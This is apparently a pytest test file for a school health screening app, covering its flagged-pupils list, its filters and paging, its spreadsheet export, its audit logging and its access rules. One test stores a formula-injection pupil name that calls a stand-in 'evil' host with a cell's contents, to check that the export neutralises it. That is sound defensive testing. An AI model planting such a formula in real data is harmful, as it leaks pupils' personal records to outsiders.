"""A session's flags: the list (filters, counts, sorting, paging), its export, and access."""

from __future__ import annotations

import io
import re
from dataclasses import dataclass
from datetime import date

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import event, func, select

from schoolhealth.extensions import db
from schoolhealth.models import AuditEvent, Finding
from schoolhealth.screening import flags, results

# The world's pupils are born 2017-05-14 and screened 2026-10-12: band 9.0~ (WS/T 586:
# boys 18.5 / 20.8, girls 18.5 / 20.4; WS/T 456 girls stunting <= 119.5 cm).
MEASUREMENTS = {
    "G0001": {"height_cm": "130", "weight_kg": "40", "ucva_right": "5.0", "ucva_left": "5.0"},
    "G0002": {"height_cm": "130", "weight_kg": "33", "ucva_right": "4.8", "ucva_left": "4.9"},
    "G0003": {"height_cm": "130", "weight_kg": "28", "ucva_right": "4.5", "ucva_left": "5.0"},
}


@dataclass
class Flagged:
    """The world plus: a normal pupil, a grade-4 pupil, an absent one and their results."""

    world: object
    obese_boy: object  # G0001 Pupil 1: obese, vision normal
    overweight_girl: object  # G0002 Pupil 2: overweight, vision moderate R / mild L
    severe_boy: object  # G0003 Pupil 3: BMI normal, severe reduced vision R
    grade4_girl: object  # G0004 Ada: thinness mild, stunting, vision moderate L
    normal_girl: object  # G0005: nothing abnormal
    absent_boy: object  # G0006: absent
    grade4_class: object


@pytest.fixture
def flagged(world, factories) -> Flagged:
    f = factories
    by_number = {s.student_number: s for s in world.students}
    grade4 = f.SchoolClassFactory(school=world.school, grade=4, name="1")
    by_number["G0004"] = f.StudentFactory(
        school_class=grade4,
        student_number="G0004",
        name="Ada",
        sex="F",
        id_number="110101201705140028",
    )
    by_number["G0005"] = f.StudentFactory(
        school_class=world.school_class, student_number="G0005", name="Bo", sex="F"
    )
    by_number["G0006"] = f.StudentFactory(
        school_class=world.school_class, student_number="G0006", name="Cai", sex="M"
    )
    by_number["G0001"].id_number = "110101201705140011"
    db.session.commit()
    raw = dict(MEASUREMENTS)
    raw["G0004"] = {"height_cm": "118", "weight_kg": "19", "ucva_right": "5.1", "ucva_left": "4.7"}
    raw["G0005"] = {"height_cm": "132", "weight_kg": "28", "ucva_right": "5.0", "ucva_left": "5.1"}
    for number, values in raw.items():
        change = results.record_measurements(
            world.session, by_number[number], values, user=world.nurse
        )
        assert change.ok, change.errors
    results.set_absent(world.session, by_number["G0006"], True, user=world.nurse)
    db.session.commit()
    return Flagged(
        world=world,
        obese_boy=by_number["G0001"],
        overweight_girl=by_number["G0002"],
        severe_boy=by_number["G0003"],
        grade4_girl=by_number["G0004"],
        normal_girl=by_number["G0005"],
        absent_boy=by_number["G0006"],
        grade4_class=grade4,
    )


def _url(session, suffix: str = "", **args) -> str:
    query = "&".join(f"{k}={v}" for k, v in args.items())
    return f"/screening/sessions/{session.id}/flags{suffix}" + (f"?{query}" if query else "")


def _names(page) -> list[str]:
    return [row.name for row in page.items]


def _listed(html: str) -> list[str]:
    """Pupil names in the flags table, in order."""
    table = html.split('id="flag-table"', 1)[1].split("</table>", 1)[0]
    return re.findall(r'/screening/pupils/\d+">([^<]+)</a>', table)


# ----------------------------------------------------------------- counts


def test_counts_are_pupils_per_category_with_screened_and_referred(flagged):
    counts = flags.flag_counts(flagged.world.session, flags.FlagFilters())
    found = {(c.screening_type, c.category): c.pupils for c in counts.categories}
    assert found == {
        ("growth", "obese"): 1,
        ("growth", "overweight"): 1,
        ("growth", "mild"): 1,
        ("growth", "yes"): 1,
        ("vision", "severe"): 1,
        ("vision", "moderate"): 2,
        ("vision", "mild"): 1,
        ("vision", "unknown"): 3,
    }
    # vision: Pupil 2 has two reduced eyes but counts once
    assert counts.pupils_by_type == {"growth": 3, "vision": 3}
    assert counts.screened_by_type == {"growth": 5, "vision": 5}
    assert (counts.flagged, counts.screened, counts.absent, counts.roster) == (4, 5, 1, 6)
    # referred: obese, reduced vision, stunting (overweight alone is not referred)
    assert counts.referred == 4
    # the counts table is ordered most serious first within each type
    assert [c.category for c in counts.for_type("growth")] == ["obese", "overweight", "mild", "yes"]
    assert counts.categories[0].label == "Obesity"


def test_counts_follow_the_grade_and_class_filters_but_not_the_category(flagged):
    grade4 = flags.flag_counts(
        flagged.world.session, flags.FlagFilters(grade=4, category="obese", screening_type="growth")
    )
    assert {(c.screening_type, c.category) for c in grade4.categories} == {
        ("growth", "mild"),
        ("growth", "yes"),
        ("vision", "moderate"),
        ("vision", "unknown"),
    }
    assert (grade4.flagged, grade4.screened, grade4.roster) == (1, 1, 1)
    by_class = flags.flag_counts(
        flagged.world.session, flags.FlagFilters(class_id=flagged.world.school_class.id)
    )
    assert (by_class.flagged, by_class.screened, by_class.absent, by_class.roster) == (3, 4, 1, 5)


# ----------------------------------------------------------------- filters


def test_list_shows_only_pupils_with_findings(flagged):
    page = flags.flagged_pupils(flagged.world.session, flags.FlagFilters())
    assert page.total == 4
    assert set(_names(page)) == {"Pupil 1", "Pupil 2", "Pupil 3", "Ada"}


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ({"type": "growth"}, {"Pupil 1", "Pupil 2", "Ada"}),
        ({"type": "vision"}, {"Pupil 2", "Pupil 3", "Ada"}),
        ({"category": "growth:obese"}, {"Pupil 1"}),
        ({"type": "vision", "category": "moderate"}, {"Pupil 2", "Ada"}),
        ({"category": "vision:severe"}, {"Pupil 3"}),
        # a category of another type than the chosen one is ignored
        ({"type": "growth", "category": "vision:severe"}, {"Pupil 1", "Pupil 2", "Ada"}),
        ({"grade": "4"}, {"Ada"}),
        ({"grade": "3", "type": "growth"}, {"Pupil 1", "Pupil 2"}),
        ({"type": "spine"}, set()),
    ],
)
def test_filters(flagged, args, expected):
    filters = flags.FlagFilters.from_args(args)
    assert set(_names(flags.flagged_pupils(flagged.world.session, filters))) == expected


def test_class_filter(flagged):
    filters = flags.FlagFilters(class_id=flagged.grade4_class.id)
    assert _names(flags.flagged_pupils(flagged.world.session, filters)) == ["Ada"]


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ({}, flags.FlagFilters()),
        ({"type": "hearing", "category": "x", "grade": "13", "sort": "drop"}, flags.FlagFilters()),
        ({"category": "vision:mild"}, flags.FlagFilters("vision", "mild")),
        ({"category": "mild"}, flags.FlagFilters(None, "mild")),
        ({"type": "spine", "category": "mild"}, flags.FlagFilters("spine", None)),
        (
            {"grade": " 4 ", "class_id": "7", "sort": "severity"},
            flags.FlagFilters(grade=4, class_id=7, sort="severity"),
        ),
        ({"grade": "four", "class_id": "-1"}, flags.FlagFilters()),
    ],
)
def test_filters_from_query_values(args, expected):
    assert flags.FlagFilters.from_args(args) == expected


def test_filters_round_trip_through_links():
    filters = flags.FlagFilters("vision", "mild", grade=3, class_id=9, sort="name")
    assert flags.FlagFilters.from_args(filters.to_args()) == filters


# ----------------------------------------------------------------- sorting and paging


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        # grade 3 before grade 4, then pinyin initials / name
        ("class", ["Pupil 1", "Pupil 2", "Pupil 3", "Ada"]),
        ("name", ["Ada", "Pupil 1", "Pupil 2", "Pupil 3"]),
        # worst severity: severe vision (3); then 2s by class and name; then none
        ("severity", ["Pupil 3", "Pupil 1", "Pupil 2", "Ada"]),
        # first category in the counts order: obese, overweight, thinness, ...
        ("category", ["Pupil 1", "Pupil 2", "Ada", "Pupil 3"]),
    ],
)
def test_sorting(flagged, sort, expected):
    page = flags.flagged_pupils(flagged.world.session, flags.FlagFilters(sort=sort))
    assert _names(page) == expected


def test_paging_uses_limit_and_reports_pages(flagged):
    session = flagged.world.session
    first = flags.flagged_pupils(session, flags.FlagFilters(), page=1, per_page=3)
    second = flags.flagged_pupils(session, flags.FlagFilters(), page=2, per_page=3)
    assert _names(first) == ["Pupil 1", "Pupil 2", "Pupil 3"]
    assert _names(second) == ["Ada"]
    assert (first.pages, first.has_prev, first.has_next) == (2, False, True)
    assert (second.has_prev, second.has_next, second.total) == (True, False, 4)
    # a page past the end shows the last page rather than nothing
    assert _names(flags.flagged_pupils(session, flags.FlagFilters(), page=9, per_page=3)) == ["Ada"]


def test_rows_carry_chips_values_and_masked_ids(flagged):
    page = flags.flagged_pupils(flagged.world.session, flags.FlagFilters())
    row = next(r for r in page.items if r.name == "Pupil 2")
    assert [f["label"] for f in row.flags] == [
        "Overweight",
        "Reduced vision (moderate) R",
        "Myopia not assessed (no refraction) R",
        "Reduced vision (mild) L",
        "Myopia not assessed (no refraction) L",
    ]
    values = {v.field: (v.label, v.title, v.value) for v in row.values}
    assert values["bmi"] == ("BMI", "BMI (kg/m²)", "19.5")
    assert values["height_cm"] == ("Height", "Height (cm)", "130.0 cm")
    assert values["ucva_right"] == ("UCVA R", "Uncorrected visual acuity, right", "4.8")
    assert list(values) == ["height_cm", "weight_kg", "bmi", "ucva_right", "ucva_left"]
    assert row.refer is True
    assert row.severity == 2
    assert str(row.age.years) == "9.41"
    assert row.class_label == "Grade 3, class 2"
    ada = next(r for r in page.items if r.name == "Ada")
    assert ada.masked_id == "1101**********0028"


def test_the_page_reads_in_a_fixed_number_of_queries(flagged, factories):
    """No query per row: the same statements for 4 flagged pupils as for 14."""
    session = flagged.world.session

    def count_statements() -> int:
        statements = []

        def listener(*args):
            statements.append(args[2])

        event.listen(db.engine, "before_cursor_execute", listener)
        try:
            page = flags.flagged_pupils(session, flags.FlagFilters(), per_page=50)
            flags.flag_counts(session, flags.FlagFilters())
        finally:
            event.remove(db.engine, "before_cursor_execute", listener)
        return len(statements), page.total

    few, total = count_statements()
    assert total == 4
    for n in range(10):
        pupil = factories.StudentFactory(
            school_class=flagged.world.school_class, student_number=f"H{n:04d}", sex="M"
        )
        results.record_measurements(
            session, pupil, {"height_cm": "130", "weight_kg": "40"}, user=flagged.world.nurse
        )
    db.session.commit()
    db.session.expire_all()
    many, total = count_statements()
    assert total == 14
    assert many == few


# ----------------------------------------------------------------- the page


def test_flags_page_shows_counts_filters_and_pupils(client, sign_in, flagged):
    sign_in(flagged.world.nurse)
    response = client.get(_url(flagged.world.session))
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert _listed(html) == ["Pupil 1", "Pupil 2", "Pupil 3", "Ada"]
    assert re.search(r'id="count-screened">.*?5 / 6', html, re.S)
    assert re.search(r'id="count-referred">.*?>4<', html, re.S)
    assert 'data-category="obese"' in html
    assert "Obesity" in html
    assert "Reduced vision (severe)" in html
    assert "Bo" not in _listed(html)
    assert "Cai" not in _listed(html)
    assert f'href="/screening/pupils/{flagged.obese_boy.id}"' in html
    assert "110101201705140028" not in html  # IDs are not on this page at all, not even masked
    export = re.search(r'id="export-flags" href="([^"]+)"', html).group(1)
    assert export == f"/screening/sessions/{flagged.world.session.id}/flags/export.xlsx"


def test_flags_page_filters_and_keeps_them_in_links(client, sign_in, flagged, app, monkeypatch):
    monkeypatch.setitem(app.config, "PAGE_SIZE", 1)
    sign_in(flagged.world.nurse)
    html = client.get(_url(flagged.world.session, type="vision", sort="name")).get_data(
        as_text=True
    )
    assert _listed(html) == ["Ada"]
    assert "Page 1 of 3" in html
    assert re.search(r'rel="next" href="[^"]*page=2[^"]*"', html)
    next_link = re.search(r'rel="next" href="([^"]+)"', html).group(1).replace("&amp;", "&")
    assert "type=vision" in next_link
    assert "sort=name" in next_link
    assert _listed(client.get(next_link).get_data(as_text=True)) == ["Pupil 2"]
    export = re.search(r'id="export-flags" href="([^"]+)"', html).group(1)
    assert "type=vision" in export
    assert "sort=name" in export
    # the filter bar shows what is chosen
    assert '<option selected value="vision">' in html
    assert '<option selected value="name">' in html


def test_flags_page_of_a_session_without_findings(client, sign_in, world):
    sign_in(world.nurse)
    html = client.get(_url(world.session)).get_data(as_text=True)
    assert 'id="no-flags"' in html
    assert re.search(r'id="count-screened">.*?0 / 3', html, re.S)


# ----------------------------------------------------------------- export


def _sheet(data: bytes, name: str = "Findings") -> list[list]:
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return workbook.get_sheet_by_name(name).to_python(skip_empty_area=False)


def test_export_has_one_row_per_finding_with_relevant_measurements(client, sign_in, flagged):
    sign_in(flagged.world.nurse)
    response = client.get(_url(flagged.world.session, "/export.xlsx"))
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "flags-session-" in response.headers["Content-Disposition"]
    rows = _sheet(response.data)
    header = rows[0]
    assert header[:8] == [
        "Student number",
        "Name",
        "Sex",
        "Age (years)",
        "Grade",
        "Class",
        "Resident ID number (masked)",
        "Screening date",
    ]
    assert header[-1] == "Standard"
    for internal in ("Code", "Category", "Advice key", "Severity"):
        assert internal not in header
    col = {name: i for i, name in enumerate(header)}
    body = rows[1:]
    # 1 (Pupil 1) + 5 (Pupil 2) + 2 (Pupil 3) + 4 (Ada)
    assert len(body) == 12
    obese = next(r for r in body if r[col["Student number"]] == "G0001")
    assert obese[col["Name"]] == "Pupil 1"
    assert obese[col["Sex"]] == "Male"
    assert obese[col["Age (years)"]] == pytest.approx(9.41)
    assert (obese[col["Grade"]], obese[col["Class"]]) == (3, "2")
    assert obese[col["Resident ID number (masked)"]] == "1101**********0011"
    assert obese[col["Finding"]] == "Obesity"
    assert obese[col["Referral"]] == "Yes"
    assert obese[col["Height (cm)"]] == 130
    assert obese[col["BMI (kg/m²)"]] == pytest.approx(23.7)
    # growth finding: the vision values are not "relevant" and stay blank
    assert obese[col["Uncorrected visual acuity, right"]] in ("", None)
    assert obese[col["Screening date"]] in (date(2026, 10, 12), "2026-10-12")
    vision = [r for r in body if r[col["Student number"]] == "G0003"]
    assert [r[col["Finding"]] for r in vision] == [
        "Reduced vision (severe) R",
        "Myopia not assessed (no refraction) R",
    ]
    assert vision[0][col["Uncorrected visual acuity, right"]] == pytest.approx(4.5)
    assert vision[0][col["Height (cm)"]] in ("", None)
    # no full ID number anywhere in the file
    flat = " ".join(str(v) for r in rows for v in r)
    assert "110101201705140011" not in flat
    assert "110101201705140028" not in flat


def test_export_writes_a_formula_name_as_text(client, sign_in, flagged):
    """A name stored before input was checked cannot run in the nurse's spreadsheet."""
    pupil = next(s for s in flagged.world.students if s.student_number == "G0001")
    pupil.name = '=HYPERLINK("http://evil/?"&B2,"Pupil 1")'
    db.session.commit()
    sign_in(flagged.world.nurse)
    rows = _sheet(client.get(_url(flagged.world.session, "/export.xlsx")).data)
    names = {r[1] for r in rows[1:]}
    assert "'" + pupil.name in names
    assert pupil.name not in names


def test_export_applies_the_filters(client, sign_in, flagged):
    sign_in(flagged.world.nurse)
    rows = _sheet(
        client.get(_url(flagged.world.session, "/export.xlsx", category="vision:moderate")).data
    )
    codes = _sheet(
        client.get(_url(flagged.world.session, "/export.xlsx", category="vision:moderate")).data,
        "Codes",
    )
    assert [(r[0], r[3]) for r in codes[1:]] == [
        ("G0002", "vision_right"),
        ("G0004", "vision_left"),
    ]
    assert [r[0] for r in rows[1:]] == ["G0002", "G0004"]
    rows = _sheet(client.get(_url(flagged.world.session, "/export.xlsx", grade="4")).data)
    assert {r[0] for r in rows[1:]} == {"G0004"}


def test_export_is_audited_with_filters_count_and_each_pupil_viewed(client, sign_in, flagged):
    sign_in(flagged.world.nurse)
    client.get(_url(flagged.world.session, "/export.xlsx", type="vision", sort="severity"))
    (export,) = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export"))
    assert export.entity == "screening_flags"
    assert export.entity_id == str(flagged.world.session.id)
    assert export.user_id == flagged.world.nurse.id
    assert export.school_id == flagged.world.school.id
    assert export.after["rows"] == 8  # Pupil 2: 4, Pupil 3: 2, Ada: 2
    assert export.after["pupils"] == 3
    assert export.after["filters"] == {
        "type": "vision",
        "category": None,
        "grade": None,
        "class_id": None,
        "sort": "severity",
    }
    views = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "view", AuditEvent.entity == "student")
    ).all()
    assert sorted(int(v.entity_id) for v in views) == sorted(
        [flagged.overweight_girl.id, flagged.severe_boy.id, flagged.grade4_girl.id]
    )
    assert all(v.user_id == flagged.world.nurse.id for v in views)
    assert all(v.school_id == flagged.world.school.id for v in views)


def test_export_of_nothing_is_an_empty_sheet_and_still_audited(client, sign_in, flagged):
    sign_in(flagged.world.nurse)
    rows = _sheet(client.get(_url(flagged.world.session, "/export.xlsx", type="spine")).data)
    assert len(rows) == 1
    (export,) = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export"))
    assert export.after["rows"] == 0


# ----------------------------------------------------------------- access


def _audit_count() -> int:
    return db.session.scalar(select(func.count()).select_from(AuditEvent))


@pytest.mark.parametrize("suffix", ["", "/export.xlsx"])
def test_another_schools_nurse_gets_404_and_nothing_is_audited(client, sign_in, flagged, suffix):
    sign_in(flagged.world.other_nurse)
    before = _audit_count()
    assert client.get(_url(flagged.world.session, suffix)).status_code == 404
    assert _audit_count() == before


@pytest.mark.parametrize("suffix", ["", "/export.xlsx"])
def test_officials_get_403(client, sign_in, flagged, suffix):
    sign_in(flagged.world.official)
    assert client.get(_url(flagged.world.session, suffix)).status_code == 403


@pytest.mark.parametrize("suffix", ["", "/export.xlsx"])
def test_anonymous_users_are_sent_to_sign_in(client, flagged, suffix):
    response = client.get(_url(flagged.world.session, suffix))
    assert response.status_code == 302
    assert "/auth/login" in response.headers["Location"] or "login" in response.headers["Location"]


@pytest.mark.parametrize("suffix", ["", "/export.xlsx"])
def test_institution_users_see_only_their_sessions_flags(client, sign_in, flagged, suffix):
    sign_in(flagged.world.institution_user)
    assert client.get(_url(flagged.world.session, suffix)).status_code == 200
    # the other school's session has no institution assigned
    assert client.get(_url(flagged.world.other_session, suffix)).status_code == 404


def test_admin_sees_any_sessions_flags(client, sign_in, flagged):
    sign_in(flagged.world.admin)
    assert client.get(_url(flagged.world.session)).status_code == 200
    assert client.get(_url(flagged.world.other_session)).status_code == 200


def test_a_session_that_does_not_exist_is_404(client, sign_in, flagged):
    sign_in(flagged.world.admin)
    assert client.get("/screening/sessions/999999/flags").status_code == 404


def test_findings_of_other_sessions_never_appear(flagged, factories):
    other = flagged.world.other_student
    results.record_measurements(
        flagged.world.other_session,
        other,
        {"height_cm": "130", "weight_kg": "45"},
        user=flagged.world.other_nurse,
    )
    db.session.commit()
    assert db.session.scalar(select(func.count()).select_from(Finding)) == 13
    page = flags.flagged_pupils(flagged.world.session, flags.FlagFilters())
    assert other.name not in _names(page)
    counts = flags.flag_counts(flagged.world.session, flags.FlagFilters())
    assert counts.flagged == 4


def test_export_has_a_sheet_with_one_row_per_pupil_and_all_findings(client, sign_in, flagged):
    sign_in(flagged.world.nurse)
    data = client.get(_url(flagged.world.session, "/export.xlsx", sort="severity")).data
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert workbook.sheet_names == ["Pupils", "Findings", "Codes"]
    rows = _sheet(data, "Pupils")
    header, body = rows[0], rows[1:]
    col = {name: i for i, name in enumerate(header)}
    findings = _sheet(data)[1:]
    # one row per pupil however the findings are sorted
    assert sorted(r[0] for r in body) == sorted({r[0] for r in findings})
    for row in body:
        mine = [r for r in findings if r[0] == row[0]]
        assert row[col["Findings"]] == "; ".join(r[9] for r in mine)
        assert row[col["Referral"]] == ("Yes" if any(r[10] == "Yes" for r in mine) else "No")
    obese = next(r for r in body if r[0] == "G0001")
    assert obese[col["Height (cm)"]] == 130


def test_the_chinese_workbook_has_no_internal_codes_outside_the_codes_sheet(
    client, sign_in, flagged
):
    flagged.world.nurse.locale = "zh_Hans_CN"
    db.session.commit()
    sign_in(flagged.world.nurse)
    data = client.get(_url(flagged.world.session, "/export.xlsx")).data
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert workbook.sheet_names == ["学生", "异常明细", "代码"]
    for name in ("学生", "异常明细"):
        rows = _sheet(data, name)
        text = " ".join(str(v) for r in rows for v in r if isinstance(v, str))
        for code in ("weight_status", "vision_right", "obese", "growth.", "Male", "Yes"):
            assert code not in text, (name, code)
        assert "肥胖" in text
